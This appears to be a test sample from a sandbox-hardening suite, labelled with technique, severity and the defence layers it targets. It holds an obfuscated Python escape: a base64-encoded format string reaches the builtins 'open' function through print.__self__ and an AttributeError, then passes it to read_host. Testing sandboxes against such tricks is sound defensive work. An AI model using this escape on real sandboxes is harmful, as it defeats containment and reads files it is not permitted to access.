# technique: a format string decoded from base64
# family: A
# severity: H
# layers: policy, mount_namespace, landlock
import base64

def trick():
    try:
        base64.b64decode("ezAuX19zZWxmX18ub3Blbi5ub3RoaW5nfQ==").decode().format(print)
    except AttributeError as e:
        return e.obj

read_host(trick)
